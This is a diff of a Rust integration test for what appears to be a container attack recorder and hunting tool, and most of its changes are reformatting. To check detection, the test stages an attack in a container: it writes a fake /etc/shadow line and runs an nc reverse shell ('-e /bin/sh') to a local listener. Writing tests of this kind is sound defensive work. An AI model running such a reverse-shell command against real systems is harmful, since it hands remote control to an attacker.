@@ -44,8 +44,11 @@ fn recorded_attack_is_told_in_order_and_hunted() {
     let benign = format!("qt-benign-{pid}");
     let victim = RuncContainer::start_with(&attacked, Some(&net.netns), |config, rootfs| {
         config["root"]["readonly"] = false.into();
-        std::fs::write(rootfs.join("etc/shadow"), "root:$6$salt$hash:19000:0:99999:7:::\n")
-            .unwrap();
+        std::fs::write(
+            rootfs.join("etc/shadow"),
+            "root:$6$salt$hash:19000:0:99999:7:::\n",
+        )
+        .unwrap();
     });
     let quiet = RuncContainer::start_with(&benign, None, |config, _| {
         config["root"]["readonly"] = false.into();
@@ -56,7 +59,8 @@ fn recorded_attack_is_told_in_order_and_hunted() {
     let port = listener.local_addr().unwrap().port();
     let catcher = std::thread::spawn(move || {
         let (mut conn, _) = listener.accept().unwrap();
-        conn.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
+        conn.set_read_timeout(Some(Duration::from_secs(10)))
+            .unwrap();
         conn.write_all(b"echo owned-by-test\nexit\n").unwrap();
         let mut answer = String::new();
         let _ = conn.read_to_string(&mut answer);
@@ -93,7 +97,10 @@ fn recorded_attack_is_told_in_order_and_hunted() {
     let reverse = format!("/bin/nc {} {port} -e /bin/sh", net.host);
     victim.exec(&["/bin/sh", "-c", &reverse]);
     let answer = catcher.join().unwrap();
-    assert!(answer.contains("owned-by-test"), "the reverse shell answered: {answer:?}");
+    assert!(
+        answer.contains("owned-by-test"),
+        "the reverse shell answered: {answer:?}"
+    );
     quiet.exec(&["/bin/ls", "/"]);
 
     let out = rec.stop_with(Signal::SIGINT);
@@ -145,7 +152,10 @@ fn recorded_attack_is_told_in_order_and_hunted() {
     assert!(!events.iter().any(|e| summary(e, "/bin/ls")));
     // The process tree has the attack's shells.
     let tree = timeline["processes"].to_string();
-    assert!(tree.contains("/tmp/dropper") && tree.contains("/bin/cat"), "{tree}");
+    assert!(
+        tree.contains("/tmp/dropper") && tree.contains("/bin/cat"),
+        "{tree}"
+    );
 
     // The hunt raises the matching findings, each pointing at its row.
     let (code, findings) = json(&store, &["hunt", "--container", &attacked]);
@@ -169,7 +179,10 @@ fn recorded_attack_is_told_in_order_and_hunted() {
         assert!(rules.contains(rule), "no {rule} ({what}) in {findings:#}");
     }
     for f in findings.as_array().unwrap() {
-        assert!(f["source_table"].is_string() && f["ktime_ns"].is_u64(), "{f}");
+        assert!(
+            f["source_table"].is_string() && f["ktime_ns"].is_u64(),
+            "{f}"
+        );
         assert_eq!(f["container_id"], attacked.as_str());
     }
 
@@ -189,10 +202,21 @@ fn recorded_attack_is_told_in_order_and_hunted() {
         .unwrap();
     assert!(out.status.success(), "{out:?}");
     let page = std::fs::read_to_string(&html).unwrap();
-    assert!(!page.contains("src=\"http") && !page.contains("href=\"http"), "no fetches");
+    assert!(
+        !page.contains("src=\"http") && !page.contains("href=\"http"),
+        "no fetches"
+    );
     let dom = render_in_chromium(&html);
-    assert!(dom.contains("data-rendered=\"yes\""), "the page's script ran");
-    for needle in ["/etc/shadow", "/tmp/dropper", "/etc/crontabs/root", "unshare"] {
+    assert!(
+        dom.contains("data-rendered=\"yes\""),
+        "the page's script ran"
+    );
+    for needle in [
+        "/etc/shadow",
+        "/tmp/dropper",
+        "/etc/crontabs/root",
+        "unshare",
+    ] {
         assert!(dom.contains(needle), "rendered page lacks {needle}");
     }
     // Never overwrite: a second run to the same file is refused.
